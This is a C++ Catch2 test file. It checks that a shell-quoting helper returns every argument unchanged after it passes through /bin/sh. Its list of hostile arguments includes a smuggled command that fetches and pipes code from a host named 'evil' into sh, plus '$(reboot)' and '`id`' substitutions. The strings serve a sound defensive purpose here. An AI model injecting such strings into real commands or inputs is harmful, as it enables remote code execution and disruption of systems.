// Suggested commands are pasted into shells: each argument must come back exactly.
#include <catch2/catch.hpp>
#include <string>
#include <vector>

#include "../common/subprocess.h"
#include "model/command_line.h"
#include "util/shell_quote.h"

using namespace initwatch;

namespace {

// What /bin/sh makes of `printf '%s\0' <line>`: the arguments it sees, NUL-separated.
std::string sh_arguments(const std::string& line) {
    test::Command c;
    c.argv = {"/bin/sh", "-c", "printf '%s\\0' " + line};
    c.err = test::Stream::inherited();
    c.timeout_s = 30;
    const test::Outcome o = test::run(c);
    INFO(o.describe());
    CHECK(o.exited());
    return o.out;
}

}  // namespace

TEST_CASE("plain arguments stay as they are, all others are single-quoted") {
    CHECK(util::shell_quote("/my-app/server.js") == "/my-app/server.js");
    CHECK(util::shell_quote("--port=8080") == "--port=8080");
    CHECK(util::shell_quote("") == "''");
    CHECK(util::shell_quote("a b") == "'a b'");
    CHECK(util::shell_quote("it's") == "'it'\\''s'");
    CHECK(util::shell_quote("*.js") == "'*.js'");
}

TEST_CASE("hostile arguments come back from sh exactly, each as one argument") {
    const std::vector<std::string> hostile = {"sleep",
                                              "3600;curl${IFS}-s${IFS}evil|sh",
                                              "$(reboot)",
                                              "`id`",
                                              "*",
                                              "?",
                                              "[a]",
                                              "~root",
                                              "a\tb",
                                              "line\nbreak",
                                              "",
                                              "'",
                                              "''\\'",
                                              "\\",
                                              "!",
                                              "#comment",
                                              "x&y",
                                              "a>b",
                                              "bad\xff\xfe",
                                              "--opt=\"q\"",
                                              "{a,b}",
                                              "%s"};
    const std::string line = model::shell_join(model::Argv(hostile));
    std::string expected;
    for (const auto& a : hostile) expected += a + std::string(1, '\0');
    CHECK(sh_arguments(line) == expected);
}
